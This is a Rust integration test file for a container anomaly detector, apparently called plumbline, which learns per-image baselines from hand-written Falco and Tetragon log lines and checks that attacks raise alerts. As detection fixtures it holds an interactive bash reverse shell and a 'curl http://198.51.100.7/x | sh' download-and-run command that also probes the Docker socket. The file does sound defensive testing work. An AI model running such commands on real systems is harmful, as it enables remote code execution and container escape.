//! Other sources than the kernel, end to end: the real collector without root, and a real server. The tools
//! themselves don't run here; their output is written by hand in the shape that their documentation shows.
#![allow(clippy::indexing_slicing, reason = "what is missing fails the test")]

use anyhow::{Context, Result, ensure};
use plumbline_proto::v1::{Alert, BaselineState, ImageStatus, Verdict};
use plumbline_tests::{
    harness::LIMIT,
    programs::{Program, Server, binary, collector},
    wait::until,
};
use rustix::process::Signal;
use std::{
    fs::{self, File},
    io::Write,
    path::{Path, PathBuf},
    process::{Command, Output},
    time::SystemTime,
};

const ID: &str = "551e161c47d8ff0eb665438a7bcd5b4e3ef5a297282b40a92b7c77d6bd168eb3";

fn fixture() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/demo.plumb")
}

/// Seconds since the epoch, `ago` seconds before now.
fn past(ago: u64) -> Result<u64> {
    Ok(SystemTime::now().duration_since(SystemTime::UNIX_EPOCH)?.as_secs() - ago)
}

fn append(path: &Path, lines: &[String]) -> Result<()> {
    let mut file = File::options().create(true).append(true).open(path)?;
    Ok(file.write_all((lines.join("\n") + "\n").as_bytes())?)
}

/// Starts a collector of a source whose containers no runtime describes.
fn start(directory: &Path, server: &Server, source: &str) -> Result<Program> {
    let arguments = ["run", "--server", &server.grpc, "--source", source, "--exposure-window", "1s"];
    collector(directory, "collector", &[&arguments[..], &["--runtime", "docker:/nonexistent.sock"]].concat())
}

fn attack(server: &Server) -> Result<Alert> {
    until("an attack", LIMIT, || {
        Ok(server.alerts("")?.into_iter().find(|alert| alert.verdict() == Verdict::Attack))
    })
}

/// The only image, once it has that many windows.
fn image(server: &Server, windows: u64) -> Result<ImageStatus> {
    until("the image's windows", LIMIT, || {
        Ok(server.images("")?.into_iter().next().filter(|image| image.exposures >= windows))
    })
}

fn unwatched(image: &ImageStatus) -> Vec<&str> {
    let all = image.dimensions.iter();
    let all = all.filter(|dimension| dimension.state() == BaselineState::Unwatched);
    all.map(|dimension| dimension.dimension.as_str()).collect()
}

fn falco(rule: &str, at: u64, pid: u32, fields: &str) -> String {
    format!(
        r#"{{"hostname":"n","priority":"Debug","rule":"{rule}","source":"syscall","time":"2026-01-02T03:04:06Z","output_fields":{{"evt.rawtime":{at}000000000,"container.id":"{}","container.name":"web","container.image.repository":"shop/web","container.image.tag":"1","container.image.digest":"sha256:8e86","proc.pid":{pid},"user.uid":33,{fields}}}}}"#,
        &ID[..12]
    )
}

#[test]
fn falco_s_lines_are_learned_and_a_reverse_shell_is_an_attack_that_says_what_falco_lacks() -> Result<()> {
    let directory = tempfile::tempdir()?;
    let log = directory.path().join("falco.json");
    let server = Server::start(directory.path(), &["--min-starts", "1", "--budget", "1000"])?;
    let begin = past(3600)?;
    let exec = |at, pid: u32, vpid: u32, parent: u32, fields: &str| {
        let more = format!(
            r#""evt.type":"execve","evt.res":"SUCCESS","proc.vpid":{vpid},"proc.ppid":{parent},"proc.tty":0,"proc.is_exe_upper_layer":false,"proc.is_exe_from_memfd":false,{fields}"#
        );
        falco("Plumbline program start", at, pid, &more)
    };
    let nginx = r#""proc.exepath":"/usr/sbin/nginx""#;
    let mut lines = vec![
        exec(
            begin,
            100,
            1,
            7,
            &format!(r#"{nginx},"proc.exe":"nginx","proc.args":"","proc.stdin.type":"file""#),
        ),
        falco(
            "Plumbline listen",
            begin,
            100,
            &format!(r#""evt.type":"listen","fd.l4proto":"tcp","fd.sip":"0.0.0.0","fd.sport":80,{nginx}"#),
        ),
        "this line is rubbish".to_owned(),
        falco("Plumbline connect", begin, 100, r#""evt.type":"connect","fd.l4proto":null"#)
            .replace(&ID[..12], "host"),
        falco(
            "Plumbline process end",
            begin,
            90,
            &format!(r#""evt.type":"procexit","evt.arg.ret":0,{nginx}"#),
        ),
    ];
    lines.extend((1..20).map(|second| {
        falco(
            "Plumbline accept",
            begin + second,
            100,
            &format!(r#""evt.type":"accept4","fd.l4proto":"tcp","fd.cip":"10.0.0.9","fd.sport":80,{nginx}"#),
        )
    }));
    append(&log, &lines)?;
    let mut running = start(directory.path(), &server, &format!("falco:{}", log.display()))?;
    let learned = image(&server, 15)?;
    ensure!(learned.repository == "shop/web" && learned.digest == "sha256:8e86", "{learned:?}");
    ensure!(unwatched(&learned) == ["connect", "identity", "call", "resolve"], "{learned:?}");
    ensure!(learned.exposures_lossy >= 1, "the line that is rubbish marks its window: {learned:?}");

    // The file is rotated, and the attack stands in the new one.
    fs::rename(&log, directory.path().join("falco.json.1"))?;
    let shell = r#""proc.exepath":"/bin/bash","proc.exe":"bash","proc.args":"-i","proc.stdin.type":"ipv4","proc.stdout.type":"ipv4""#;
    append(&log, &[exec(begin + 30, 120, 9, 100, shell)])?;
    let alert = attack(&server)?;
    let evidence: Vec<&str> = alert.evidence.iter().map(|item| item.name.as_str()).collect();
    ensure!(evidence.contains(&"shell_on_socket"), "{evidence:?}");
    ensure!(alert.findings.iter().all(|finding| finding.uid == 33), "{alert:?}");
    let caveats = alert.caveats.join("\n");
    ensure!(
        caveats.contains("the source falco does not tell") && caveats.contains("system calls"),
        "{caveats}"
    );
    ensure!(caveats.contains("nobody watches this image's connect, identity, call, resolve"), "{caveats}");
    ensure!(running.stop(Signal::TERM)?.success(), "{}", running.log());
    let log_text = running.log();
    ensure!(log_text.contains("host: 1") && log_text.contains("not_json: 1"), "{log_text}");

    // A later run goes on where this one was.
    let before = image(&server, 0)?;
    append(&log, &[exec(begin + 40, 121, 10, 100, shell)])?;
    let mut again = start(directory.path(), &server, &format!("falco:{}", log.display()))?;
    until("the last event", LIMIT, || {
        let now = image(&server, 0)?;
        Ok((now.last_seen_unix_ns > before.last_seen_unix_ns).then_some(()))
    })?;
    ensure!(again.stop(Signal::TERM)?.success(), "{}", again.log());
    ensure!(again.log().contains("records=1 "), "it read again what it had sent: {}", again.log());
    Ok(())
}

#[test]
fn tetragon_s_lines_are_learned_and_code_from_the_network_is_an_attack_that_says_what_tetragon_lacks()
-> Result<()> {
    let directory = tempfile::tempdir()?;
    let log = directory.path().join("tetragon.log");
    let server = Server::start(directory.path(), &["--min-starts", "1", "--budget", "1000"])?;
    let begin = past(3600)?;
    let time = |at: u64| -> Result<String> {
        let time = time_of(at).context("no time")?;
        Ok(time)
    };
    let process = |pid: u32,
                   start: u64,
                   binary: &str,
                   arguments: &str,
                   namespace_pid: u32|
     -> Result<String> {
        Ok(format!(
            r#"{{"exec_id":"{pid}","pid":{pid},"uid":33,"cwd":"/","binary":"{binary}","arguments":{arguments:?},"flags":"execve clone","start_time":"{}","auid":4294967295,"pod":{{"namespace":"shop","name":"web-0","container":{{"id":"containerd://{ID}","name":"web","image":{{"id":"docker.io/shop/web@sha256:8e86","name":"docker.io/shop/web:1"}},"start_time":"{}","pid":{namespace_pid}}}}},"docker":"{}","tid":{pid},"in_init_tree":true}}"#,
            time(start)?,
            time(begin)?,
            &ID[..31]
        ))
    };
    let exec = |at: u64, process: &str, parent: &str| -> Result<String> {
        Ok(format!(
            r#"{{"process_exec":{{"process":{process},"parent":{parent}}},"node_name":"n","time":"{}"}}"#,
            time(at)?
        ))
    };
    let server_process = process(100, begin, "/usr/sbin/nginx", "", 1)?;
    let mut lines = vec![exec(begin, &server_process, "{}")?];
    for second in 1..20 {
        let health = process(200 + second as u32, begin + second, "/bin/health", "--quick", 50)?;
        lines.push(exec(begin + second, &health, &server_process)?);
        lines.push(format!(
            r#"{{"process_exit":{{"process":{health},"parent":{server_process},"status":0,"time":"{}"}},"time":"{}"}}"#,
            time(begin + second)?,
            time(begin + second)?
        ));
    }
    append(&log, &lines)?;
    let mut running = start(directory.path(), &server, &format!("tetragon:{}", log.display()))?;
    let learned = image(&server, 15)?;
    ensure!(learned.repository == "docker.io/shop/web" && learned.starts == 1, "{learned:?}");
    ensure!(
        unwatched(&learned) == ["origin", "listen", "connect", "accept", "identity", "call", "resolve"],
        "{learned:?}"
    );
    let attacker = process(
        300,
        begin + 30,
        "/bin/bash",
        r#"-c "curl http://198.51.100.7/x | sh; ls /var/run/docker.sock""#,
        60,
    )?;
    append(&log, &[exec(begin + 30, &attacker, &server_process)?])?;
    let alert = attack(&server)?;
    ensure!(alert.container_id == ID && alert.container_name == "web", "{alert:?}");
    ensure!(alert.findings.iter().all(|finding| finding.dimension != "origin"), "{alert:?}");
    let caveats = alert.caveats.join("\n");
    ensure!(
        caveats.contains("the source tetragon does not tell") && caveats.contains("terminals"),
        "{caveats}"
    );
    ensure!(running.stop(Signal::TERM)?.success(), "{}", running.log());
    Ok(())
}

/// A time as RFC 3339 writes it, by civil-from-days (Howard Hinnant).
fn time_of(unix_s: u64) -> Option<String> {
    let (days, second) = ((unix_s / 86_400) as i64 + 719_468, unix_s % 86_400);
    let (era, day) = (days / 146_097, days % 146_097);
    let year = (day - day / 1460 + day / 36_524 - day / 146_096) / 365;
    let day = day - (365 * year + year / 4 - year / 100);
    let month = (5 * day + 2) / 153;
    let date = day - (153 * month + 2) / 5 + 1;
    let month = if month < 10 { month + 3 } else { month - 9 };
    let year = year + era * 400 + i64::from(month <= 2);
    let (hour, minute, second) = (second / 3600, second / 60 % 60, second % 60);
    Some(format!("{year:04}-{month:02}-{date:02}T{hour:02}:{minute:02}:{second:02}Z"))
}

fn replay(directory: &Path, server: &Server, file: &Path) -> Result<Output> {
    let (spool, source) = (directory.join("spool"), format!("replay:{}", file.display()));
    Ok(Command::new(binary("plumbline-collector")?)
        .args([
            "run",
            "--server",
            &server.grpc,
            "--source",
            &source,
            "--metrics-address",
            "off",
            "--spool-dir",
        ])
        .arg(spool)
        .output()?)
}

#[test]
fn a_recording_sent_to_a_server_gives_the_verdicts_of_a_replay_there() -> Result<()> {
    let directory = tempfile::tempdir()?;
    let server = Server::start(directory.path(), &["--budget", "20"])?;
    let output = replay(directory.path(), &server, &fixture())?;
    ensure!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let file = fixture().display().to_string();
    let local = Command::new(binary("plumbline-server")?)
        .args(["replay", "--budget", "20", "-o", "json", &file])
        .output()?;
    let mut expected: Vec<Alert> = serde_json::from_slice(&local.stdout)?;
    let mut sent = server.alerts("")?;
    expected.sort_by(|a, b| a.id.cmp(&b.id));
    sent.sort_by(|a, b| a.id.cmp(&b.id));
    sent.iter_mut().for_each(|alert| alert.changed_unix_ns = 0); // a replay has no clock
    ensure!(!sent.is_empty() && sent == expected, "{sent:?}\n{expected:?}");
    Ok(())
}

#[test]
fn what_precedes_the_damage_of_a_recording_is_sent_and_the_damage_is_an_error() -> Result<()> {
    let directory = tempfile::tempdir()?;
    let server = Server::start(directory.path(), &[])?;
    let whole = fs::read(fixture())?;
    let torn = directory.path().join("torn.plumb");
    fs::write(&torn, &whole[..whole.len() - 5])?;
    let output = replay(directory.path(), &server, &torn)?;
    let text = String::from_utf8_lossy(&output.stderr);
    ensure!(
        output.status.code() == Some(69) && text.contains("at byte") && text.contains("cut off"),
        "{text}"
    );
    ensure!(!server.images("")?.is_empty(), "nothing was sent");
    Ok(())
}
